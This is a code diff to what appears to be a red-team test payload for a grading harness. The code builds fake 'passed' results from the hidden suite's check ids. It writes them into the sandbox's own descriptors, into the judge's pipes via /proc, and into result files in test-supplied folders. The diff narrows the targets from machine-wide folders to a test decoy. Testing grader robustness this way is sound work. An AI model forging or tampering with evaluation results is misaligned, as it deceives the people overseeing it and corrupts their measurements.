@@ -1,6 +1,10 @@
 # Class: forge the judge's records and the grader's reports from the sandbox.
+# Targets only what the test hands it (REDTEAM_TARGETS, written in front of this payload): its
+# own open descriptors, the pipes and sockets of the judge that started it, and the test's
+# decoy folder of records and reports. Never a machine-wide place.
 import json
 import os
+import stat
 
 _IDS = []
 try:  # the hidden suite's check ids, if the sandbox can read the suite
@@ -17,17 +21,30 @@ except Exception:
 _FAKE = "".join(json.dumps({"type": "result", "id": i, "status": "passed", "fraction": 1.0,
                             "message": "", "location": None, "not_implemented": False,
                             "duration_s": 0.0}) + "\n" for i in _IDS) + json.dumps({"type": "done"}) + "\n"
-for _fd in range(3, 256):
+for _fd in range(3, 256):  # the sandbox's own descriptors
     try:
         os.write(_fd, _FAKE.encode())
     except OSError:
         pass
-for _root in ("/tmp", "/var/tmp", os.path.expanduser("~"), "/proc"):
+# The judge's channels, reopened through its /proc entry (a pipe or a socket only: never a
+# file or a terminal the judge may hold).
+_judge_fds = "/proc/%d/fd" % os.getppid()
+try:
+    _names = os.listdir(_judge_fds)
+except OSError:
+    _names = []
+for _name in _names:
+    _path = os.path.join(_judge_fds, _name)
+    try:
+        if stat.S_ISFIFO(os.stat(_path).st_mode):
+            with open(_path, "a") as _fh:
+                _fh.write(_FAKE)
+    except Exception:
+        pass
+for _root in REDTEAM_TARGETS["folders"]:  # noqa: F821 (written in front by the test)
     for _dir, _dirs, _files in os.walk(_root):
-        if _dir.startswith("/proc/") and _dir.count("/") > 3:
-            _dirs[:] = [d for d in _dirs if d == "fd"]
         for _name in _files:
-            if _name.endswith((".jsonl", "results.json")) or _dir.endswith("/fd"):
+            if _name.endswith((".jsonl", "results.json")):
                 try:
                     with open(os.path.join(_dir, _name), "a") as _fh:
                         _fh.write(_FAKE)
